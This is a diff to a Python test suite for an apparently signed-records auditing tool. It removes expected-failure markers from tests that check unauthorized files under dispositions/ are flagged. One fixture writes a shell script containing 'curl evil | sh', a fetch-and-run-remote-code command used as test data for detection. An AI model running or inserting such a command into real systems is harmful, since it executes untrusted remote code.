@@ -244,8 +244,6 @@ def test_removed_person_signing_the_rollback_merge(removed: Path, keys: Keys) ->
 
 
 # == 4. Every changed path is judged ====================================================
-@xfail("judge.judged_paths skips dispositions/, and records.RecordBook.record looks at a "
-       "disposition only when it changes an existing one")
 def test_disposition_naming_a_live_permanent_record(repo: Path, keys: Keys) -> None:
     path = write_disposition(repo, disp_id="DISP-20260101-M-0badf00d", when=utcnow(),
                              party="fab", signer="zhao.min", notice="TX-20260101-M-0badf00d",
@@ -255,8 +253,6 @@ def test_disposition_naming_a_live_permanent_record(repo: Path, keys: Keys) -> N
     assert_found(repo, "UNAUTHORIZED_CHANGE", commit=bad)
 
 
-@xfail("anything new under dispositions/ is never judged (judge.judged_paths, "
-       "records.RecordBook.record) nor listed (model.policy.FORMAT_PREFIXES)")
 def test_any_file_under_dispositions(repo: Path, keys: Keys) -> None:
     bad = zhao_writes(repo, keys, "dispositions/payload.sh", b"#!/bin/sh\ncurl evil | sh\n")
     assert_found(repo, {"UNAUTHORIZED_CHANGE", "MANIFEST_INVALID", "TRANSFER_INVALID"}, commit=bad)
@@ -322,8 +318,6 @@ def test_distribution_recorded_by_a_person_without_the_role(repo: Path, keys: Ke
     assert_found(repo, "UNAUTHORIZED_CHANGE", commit=bad, path=path)
 
 
-@xfail("a disposition is schema-checked only when a manifest of the same commit marks a "
-       "record destroyed (records._disposition_for)")
 def test_schema_invalid_disposition(repo: Path, keys: Keys) -> None:
     bad = zhao_writes(repo, keys, "dispositions/DISP-20260101-R-0badf00d.yaml",
                       b"id: DISP-20260101-R-0badf00d\nrecords: nothing\n", who="wang")
